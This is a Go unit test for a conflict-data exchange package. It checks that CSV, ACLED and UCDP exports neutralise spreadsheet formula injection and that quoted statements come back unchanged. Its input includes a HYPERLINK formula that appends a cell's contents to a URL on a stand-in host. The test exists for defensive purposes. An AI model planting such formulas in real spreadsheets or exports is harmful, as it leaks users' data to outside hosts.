package exchange_test

import (
	"encoding/csv"
	"strings"
	"testing"

	"oblast/data/exchange"
	"oblast/data/record"
)

// TestNoCellIsRun writes what strangers said as tables: no cell is one that a spreadsheet would run, and what is read back
// is what was said.
func TestNoCellIsRun(t *testing.T) {
	const words = `=HYPERLINK("https://example.org/?"&A1,"look")`
	said := []string{words, "+7 495 000", "-1 drone", "@all of them", "'quoted' words", "plain"}
	text := "id,night_of,region_ids,kind,count,speaker,speaker_role,quote\n"
	for i, s := range said {
		text += string(rune('a'+i)) + `,2025-08-27,RU-KLU,interception,1,"` + strings.ReplaceAll(s, `"`, `""`) + `",media,"` + strings.ReplaceAll(s, `"`, `""`) + "\"\n"
	}
	log := memory(t)
	o := exchange.Options{Format: exchange.CSV, Places: places(t), Author: "a test", Name: "t.csv"}
	if report, err := load(t, log, text, o); err != nil {
		t.Fatalf("%v: %v", err, report.Faults)
	}
	for _, f := range []exchange.Format{exchange.CSV, exchange.ACLED, exchange.UCDP} {
		var b strings.Builder
		if n, err := exchange.ExportTable(t.Context(), log, f, nil, &b, nil); err != nil || n != int64(len(said)) {
			t.Fatalf("%s: %d rows, %v", f, n, err)
		}
		rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: a spreadsheet runs %q", f, cell)
				}
			}
		}
		if f != exchange.CSV {
			continue
		}
		recs, _ := made(t, b.String(), o)
		speakers := map[string]bool{}
		for _, rec := range recs {
			if st, ok := rec.(*record.Statement); ok {
				speakers[*st.Speaker] = st.Quote == *st.Speaker
			}
		}
		for _, s := range said {
			if !speakers[s] {
				t.Errorf("%q does not come back: %v", s, speakers)
			}
		}
	}
	if row := (exchange.Review{Words: words}).Row(); row[2] != "'"+words {
		t.Errorf("a place to look at: %q", row[2])
	}
}
